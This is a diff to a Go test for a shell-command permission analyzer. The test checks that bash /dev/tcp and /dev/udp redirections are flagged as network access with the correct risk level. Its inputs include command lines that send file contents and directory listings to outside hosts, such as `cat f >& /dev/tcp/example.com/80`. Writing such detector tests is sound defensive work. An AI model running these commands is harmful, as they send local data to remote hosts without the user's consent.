@@ -296,7 +296,7 @@ func TestConnectionsOfTheShell(t *testing.T) {
 	for command, want := range map[string]string{
 		`cat < /dev/tcp/10.0.0.1/80`:          "tcp://10.0.0.1:80/",
 		`echo x > /dev/udp/example.com/53`:    "udp://example.com:53/",
-		`exec 3<>/dev/tcp/0x7f000001/7777`:    "tcp://127.0.0.1:7777/",
+		`cat < /dev/tcp/0x7f000001/7777`:      "tcp://127.0.0.1:7777/",
 		`cat f >& /dev/tcp/example.com/80`:    "tcp://example.com:80/",
 		`{ ls; cat f; } > /dev/tcp/1.2.3.4/9`: "tcp://1.2.3.4:9/",
 		`> /dev/tcp/1.2.3.4/9`:                "tcp://1.2.3.4:9/",
@@ -306,6 +306,9 @@ func TestConnectionsOfTheShell(t *testing.T) {
 		i := slices.IndexFunc(a.Subjects, func(s permissions.Subject) bool { return s.Kind == KindFetch })
 		if i < 0 || a.Subjects[i].Decides[0] != want || !a.Subjects[i].KindBound || a.Subjects[i].DeniesOnly || permissions.Network.Exceeds(a.Risk) {
 			t.Errorf("%s: %+v, %v, want %s", command, a.Subjects, a.Risk, want)
+		}
+		if away := !strings.Contains(want, "127.0.0.1"); away != (a.Risk == permissions.Unknown) {
+			t.Errorf("%s: %v", command, a.Risk)
 		}
 	}
 	if a := analyze(t, KindShell, p, "command", `cat < /dev/tcp/$HOST/80`); a.Risk != permissions.Unknown {
